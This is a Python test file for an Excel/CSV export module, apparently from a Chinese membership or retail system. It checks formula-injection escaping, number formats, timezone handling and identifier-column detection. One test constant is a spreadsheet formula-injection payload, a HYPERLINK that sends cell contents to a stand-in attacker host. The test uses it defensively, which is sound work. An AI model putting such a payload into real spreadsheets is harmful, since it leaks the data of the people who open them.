"""core.excel, the one writer of export files: text is never a formula (xlsx: a text cell with
the quote prefix; CSV: OWASP's leading single quote), numbers are numbers with a format, and
what reads as a number in an uploaded file's echo becomes one unless it is an identifier."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from core import excel

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
STARTS = [HOSTILE, "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1+1"]


def _read(book):
    return load_workbook(io.BytesIO(book.to_bytes())).active


@pytest.mark.parametrize("value", STARTS)
def test_a_text_that_begins_a_formula_is_written_as_that_text(value):
    book = excel.Book()
    book.sheet("x").row([value, "plain"])

    sheet = _read(book)
    cell = sheet["A1"]

    # (XML reads a carriage return back as a newline; the cell is still that text.)
    assert cell.data_type == "s" and cell.value == value.replace("\r", "\n")
    assert cell.quotePrefix  # Excel and WPS keep it text when the cell is edited
    assert not sheet["B1"].quotePrefix


def test_a_header_is_bold_text_even_when_a_title_begins_a_formula():
    book = excel.Book()
    book.sheet("x").header(["=1+1", "姓名"])

    row = list(_read(book).iter_rows())[0]

    assert [c.value for c in row] == ["=1+1", "姓名"]
    assert all(c.data_type == "s" and c.font.b for c in row)


def test_figures_are_numbers_with_their_format():
    book = excel.Book()
    book.sheet("x").row(
        [excel.money(Decimal("1100.5")), excel.count(3116), excel.rate(0.1234),
         excel.figure(Decimal("2.85"), 1), excel.money(None), excel.count(0)]
    )  # fmt: skip

    a, b, c, d, e, f = next(_read(book).iter_rows())

    assert (a.value, a.number_format) == (1100.5, "#,##0.00")
    assert (b.value, b.number_format) == (3116, "#,##0")
    assert (c.value, c.number_format) == (0.1234, "0.0%")
    assert (d.value, d.number_format) == (2.85, "0.0")
    assert e.value is None and (f.value, f.number_format) == (0, "#,##0")


def test_times_are_written_in_shanghai_time_and_dates_as_dates():
    book = excel.Book()
    at = datetime(2026, 1, 31, 18, 30, tzinfo=ZoneInfo("UTC"))
    book.sheet("x").row([excel.when(at), date(2026, 2, 1)])

    a, b = next(_read(book).iter_rows())

    assert a.value == datetime(2026, 2, 1, 2, 30) and a.number_format == "yyyy-mm-dd hh:mm"
    assert b.value == datetime(2026, 2, 1) and b.number_format == "yyyy-mm-dd"


def test_a_control_character_xml_cannot_hold_does_not_fail_the_export():
    book = excel.Book()
    book.sheet("x").row(["张\x07三"])

    assert _read(book)["A1"].value == "张\ufffd三"


def test_sheet_titles_are_made_valid_and_unique():
    book = excel.Book()
    first, second = book.sheet("a/b:c" * 10), book.sheet("a/b:c" * 10)
    assert first is not second
    titles = load_workbook(io.BytesIO(book.to_bytes())).sheetnames
    assert len(titles) == 2 and len(set(titles)) == 2 and all(len(t) <= 31 for t in titles)


@pytest.mark.parametrize("value", STARTS)
def test_a_csv_field_that_begins_a_formula_gets_a_leading_quote(value):
    out = io.StringIO()
    excel.write_csv([["姓名"], [value]], out)

    rows = list(csv.reader(io.StringIO(out.getvalue())))

    assert rows[1] == ["'" + value]


@pytest.mark.parametrize(
    "value, field",
    [("-12.50", "-12.50"), ("+3", "+3"), (Decimal("-5"), "-5"), (None, ""), (True, "True"),
     ("张三", "张三")],
)  # fmt: skip
def test_a_plain_number_or_plain_text_stays_as_it_is_in_a_csv(value, field):
    assert excel.csv_field(value) == field


@pytest.mark.parametrize(
    "text, number",
    [
        ("1,100", Decimal("1100")), ("3,116", Decimal("3116")), ("169.83", Decimal("169.83")),
        ("¥5", Decimal("5")), ("￥1,234.50", Decimal("1234.50")), ("-¥5.00", Decimal("-5.00")),
        ("12.5%", Decimal("0.125")), (" 42 ", Decimal("42")), (".5", Decimal("0.5")),
        ("13812345678", Decimal("13812345678")),
    ],
)  # fmt: skip
def test_texts_that_read_as_numbers(text, number):
    assert excel.parse_number(text) == number


@pytest.mark.parametrize(
    "text",
    ["", "SH001", "138****5678", "2026-06-01", "1,10", "1.2.3", "-2+3 店员", "2.5 ×", "5%%", "¥",
     "--5", "12,345,67"],
)  # fmt: skip
def test_texts_that_do_not_read_as_numbers(text):
    assert excel.parse_number(text) is None


@pytest.mark.parametrize(
    "header",
    ["手机号", "手机号码", "联系电话", "推荐人手机号", "会员卡号", "会员号", "工号", "小票号",
     "券码", "模板编码", "门店", "开卡门店", "Mobile phone", "Member no", "Coupon code",
     "Receipt"],
)  # fmt: skip
def test_identifier_columns_are_decided_by_their_header(header):
    assert excel.is_identifier_header(header)


@pytest.mark.parametrize(
    "header",
    ["积分", "储值余额", "数值", "金额", "Points", "", None, "门店数", "充值金额", "用券率",
     "Stored value outstanding", "Receipts count", "Barcodes"],
)  # fmt: skip
def test_figure_columns_are_not_identifiers(header):
    assert not excel.is_identifier_header(header)


def test_an_echoed_file_cell_keeps_identifiers_as_text_and_makes_figures_numbers():
    echo = excel.verbatim

    assert echo("13812345678", "手机号") == "13812345678"
    assert echo("0012", "会员卡号") == "0012"
    assert echo("1,100", "积分") == excel.count(1100)
    assert echo("169.83", "储值余额") == excel.money(Decimal("169.83"))
    assert echo("12%", "折扣") == excel.rate(Decimal("0.12"))
    assert echo("张三", "姓名") == "张三" and echo(100, "积分") == 100
